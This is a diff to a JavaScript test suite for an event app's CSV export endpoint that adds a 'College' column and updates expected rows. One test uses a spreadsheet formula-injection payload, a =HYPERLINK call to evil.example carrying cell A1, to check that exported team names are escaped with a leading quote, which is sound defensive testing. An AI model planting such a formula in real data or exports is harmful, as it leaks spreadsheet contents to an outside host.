@@ -211,20 +211,22 @@ describe('GET /api/events/:id/export-csv', () => {
       'Email',
       'Register No.',
       'Mobile Number',
+      'College',
     ]);
+    const rest = ['9876543210', 'Anna University'];
     const byteMe = ['Byte Me', 'Pending', 'CICAgMDw8KqzXw', '2026-12-01 12:02:00 +05:30', '', ''];
     const nullPointers = [
       'Null Pointers',
       'Verified',
-      "'412345678901",
+      '412345678901',
       '2026-12-01 12:01:00 +05:30',
       '2026-12-01 12:02:00 +05:30',
       'Seen on the statement\nof the 1st',
     ];
     expect(await rows()).toEqual([
-      [...byteMe, 'Team Leader', 'mina', 'mina@student.example', 'REG-mina', '9876543210'],
-      [...nullPointers, 'Team Leader', 'asha', 'asha@student.example', 'REG-asha', '9876543210'],
-      [...nullPointers, 'Member', 'ravi', 'ravi@student.example', 'REG-ravi', '9876543210'],
+      [...byteMe, 'Team Leader', 'mina', 'mina@student.example', 'REG-mina', ...rest],
+      [...nullPointers, 'Team Leader', 'asha', 'asha@student.example', 'REG-asha', ...rest],
+      [...nullPointers, 'Member', 'ravi', 'ravi@student.example', 'REG-ravi', ...rest],
     ]);
   });
 
@@ -264,7 +266,7 @@ describe('GET /api/events/:id/export-csv', () => {
     const name = '=HYPERLINK("https://evil.example?"&A1,"Open"), +1';
     const { rows } = await withTeams([{ teamName: name, members: [newMember('asha')] }]);
     const [row = []] = await rows();
-    expect(row).toHaveLength(11);
+    expect(row).toHaveLength(12);
     expect(row[0]).toBe(`'${name}`);
   });
 });
